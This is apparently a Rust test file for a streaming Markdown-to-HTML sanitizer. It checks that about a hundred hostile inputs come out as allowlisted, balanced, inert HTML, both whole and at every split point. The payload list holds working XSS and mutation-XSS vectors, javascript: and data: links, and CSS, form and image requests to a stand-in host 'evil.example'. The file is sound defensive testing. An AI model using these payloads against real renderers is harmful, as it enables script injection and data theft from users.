//! Hostile texts, whole and at every split: what comes out is made of the allowed elements and
//! attributes only, is balanced, reads the same to an HTML parser, and loads nothing.

use super::{LiveMarkdown, sanitize, whole};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://evil.example/pixel.png'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><xmp><img src=x onerror=alert(1)></xmp></mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\">CLICK</math>",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">C</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<p style=\"background:url(https://evil.example/a)\">x</p>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    "<button data-act=\"copy\" formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea><title><img src=x></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<div\n\n<img src=x onerror=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](<  javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{200B}script:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\share)",
    "[x](weir://settings) [y](tauri://localhost) [z](ipc://x)",
    "[x](blob:https://a.b/c) [y](about:blank) [z](view-source:https://a.b)",
    "[x](https://a.b/\"onmouseover=\"alert(1))",
    "[x](https://a.b 'title\" onmouseover=\"alert(1)')",
    "[x](https://a.b \"<img src=x onerror=alert(1)>\")",
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "[a](https://a.b/%22%3E%3Cscript%3E)",
    "[a\u{202E}moc.live\u{202C}](https://evil.example/\u{202E}moc)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n[x]: data:text/html,<script>alert(1)</script> \"<b>\"",
    "[<x>]: https://a.b \"<script>alert(1)</script>\"",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)> <data:text/html,x> <ms-msdt:/id> <smb://evil/x>",
    "<https://a.b/\"onclick=alert(1)>",
    "<a@b.c\"onclick=alert(1)>",
    "![x](https://evil.example/p.png?secret)",
    "![x](javascript:alert(1))",
    "![<script>alert(1)</script>](https://a.b/c)",
    "![x\"onerror=\"alert(1)](https://a.b/c \"onload=alert(1)\")",
    "[![x](javascript:a)](javascript:b)",
    "![![x](https://a.b)](data:image/svg+xml,<svg onload=alert(1)>)",
    "```<img src=x onerror=alert(1)>\ncode\n```",
    "```html\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~rust</span><script>alert(1)</script>\n<b>\n~~~\n",
    "```html\n<img src=x onerror=alert(1)><!-- &lt; -->\n",
    "    </code></pre><img src=x onerror=alert(1)>",
    "`</code><script>alert(1)</script>`",
    "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|-|-|\n| `<b>` | </td><script> |",
    "- [ ] <input onfocus=alert(1) autofocus>\n- [x](javascript:alert(1))",
    "> <script>alert(1)</script>\n\n<b>",
    "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\operatorname{<img src=x onerror=alert(1)>}$ $\\operatorname{<a href=https://a.b>}$",
    "$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$",
    "$\\includegraphics{https://evil.example/a.png} \\htmlData{a=b}{x} \\class{x}{y}$",
    "$$\n</math><script>alert(1)</script>\n$$",
    "\\(</math><img src=x onerror=alert(1)>\\)",
    "$\\color{red}x \\unicode{x3c}script$ $a<b>c&d$",
    "$\\begin{array}{c}<img src=x>&</math>\\\\x\\end{array}$",
    "*<b* onclick=alert(1)>_</_script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u{F0001}\u{F0002} &#xF0001; &#983041; ![\u{F0001}&#xF0001;](https://a.b/&#xF0001;)",
    "<button class=\"cite\" data-cite=\"1\">1</button>",
    "```\u{F0001}\n\u{F0001}&#xF0001;\n```\n$\u{F0001}$",
    "a\0<scr\0ipt>alert(1)</scr\0ipt>",
    "\u{FEFF}<script>alert(1)</script>",
    "<x onclick=alert(1) style=x:expression(alert(1)) id=a class=hl-x data-act=copy>",
    "<a href=\"https://a.b\" target=_blank ping=https://evil.example>x</a>",
    "\u{FF1C}script\u{FF1E} ＜img src=x＞",
];

const ELEMENTS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "button",
    "code",
    "del",
    "div",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "input",
    "li",
    "ol",
    "p",
    "pre",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
    "math",
    "merror",
    "mfrac",
    "mi",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mroot",
    "mrow",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
];
const VOID: &[&str] = &["br", "hr", "input"];

/// Reads the HTML as tags, strictly: anything that is not exactly a tag or text fails.
fn check(html: &str, payload: &str) {
    let at = |problem: &str| format!("{problem}\nin {html}\nfrom {payload:?}");
    let mut open: Vec<&str> = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        assert!(!rest[..start].contains('>'), "{}", at("bare >"));
        rest = &rest[start + 1..];
        if let Some(after) = rest.strip_prefix('/') {
            let end = after.find('>').unwrap_or_default();
            assert_eq!(open.pop(), Some(&after[..end]), "{}", at("unbalanced"));
            rest = &after[end + 1..];
            continue;
        }
        let name_end = rest.find([' ', '>']).unwrap_or_default();
        let name = &rest[..name_end];
        assert!(ELEMENTS.contains(&name), "{}", at(name));
        rest = &rest[name_end..];
        while let Some(after) = rest.strip_prefix(' ') {
            let Some((attribute, after)) = after.split_once("=\"") else {
                unreachable!("{}", at("attribute without value"));
            };
            let Some((value, after)) = after.split_once('"') else {
                unreachable!("{}", at("open value"));
            };
            assert!(allowed(name, attribute, value), "{}", at(attribute));
            rest = after;
        }
        assert!(rest.starts_with('>'), "{}", at("broken tag"));
        rest = &rest[1..];
        if !VOID.contains(&name) {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{}", at("left open"));
}

fn allowed(name: &str, attribute: &str, value: &str) -> bool {
    let math = name.starts_with('m');
    match attribute {
        "href" => {
            let visible = value.chars().all(|each| {
                !each.is_control() && !matches!(each, '\u{200B}'..='\u{202E}' | '\u{F0000}'..)
            });
            let schemes = ["http:", "https:", "mailto:"];
            let value = value.to_ascii_lowercase();
            name == "a" && visible && schemes.iter().any(|scheme| value.starts_with(scheme))
        }
        "class" => {
            let known = matches!(value, "code" | "table" | "image" | "math-error");
            known
                || value
                    .split(' ')
                    .all(|each| each.starts_with("hl-") || each.starts_with("menv-"))
        }
        "type" => matches!(value, "button" | "checkbox"),
        "data-act" => name == "button" && matches!(value, "wrap" | "copy"),
        "checked" | "disabled" => name == "input",
        "align" => name == "td" || name == "th",
        "start" => name == "ol",
        "stretchy" | "mathvariant" | "width" | "display" | "displaystyle" | "scriptlevel"
        | "form" | "fence" | "linethickness" | "movablelimits" | "largeop" | "minsize"
        | "maxsize" | "symmetric" | "accent" | "height" | "depth" => math,
        _ => false,
    }
}

/// An HTML parser reads the output as it was meant: parsed and written again, it is the same.
fn check_stable(html: &str, payload: &str) {
    check(html, payload);
    assert_eq!(sanitize::clean(html), html, "from {payload:?}");
}

#[test]
fn there_are_enough_payloads() {
    assert!(PAYLOADS.len() >= 100, "{}", PAYLOADS.len());
}

#[test]
fn a_whole_payload_is_harmless_in_every_place() {
    for payload in PAYLOADS {
        let line = payload.replace('\n', " ");
        for text in [
            (*payload).to_owned(),
            format!("text {payload} text"),
            format!("- {line}\n  - {line}"),
            format!("> {line}"),
            format!("**{line}** _{line}_"),
            format!("|a|\n|-|\n|{line}|"),
            format!("[{line}](https://a.b)"),
            format!("![{line}]({line})"),
            format!("```{line}\n{payload}\n```"),
            format!("~~~html\n{payload}"),
            format!("`{line}`"),
            format!("$${line}$$ $\\text{{{line}}}$"),
            format!("# {line}"),
            format!("[{line}]: <{line}> \"{line}\""),
            format!("<div>\n{payload}"),
        ] {
            check_stable(&whole(&text), &text);
        }
    }
}

#[test]
fn a_streamed_payload_is_harmless_at_every_split() {
    for payload in PAYLOADS {
        let expected = whole(payload);
        for (at, _) in payload.char_indices() {
            let (left, right) = payload.split_at(at);
            let mut live = LiveMarkdown::new();
            let mut html = String::new();
            for part in [left, right] {
                live.push(part);
                if let Some(change) = live.take() {
                    for piece in &change.pieces {
                        check_stable(piece, payload);
                    }
                    html.push_str(&change.pieces.concat());
                    check_stable(&change.tail, payload);
                }
            }
            let change = live.finish();
            html.push_str(&change.pieces.concat());
            html.push_str(&change.tail);
            assert_eq!(html, expected, "{payload:?} at {at}");
        }
    }
}
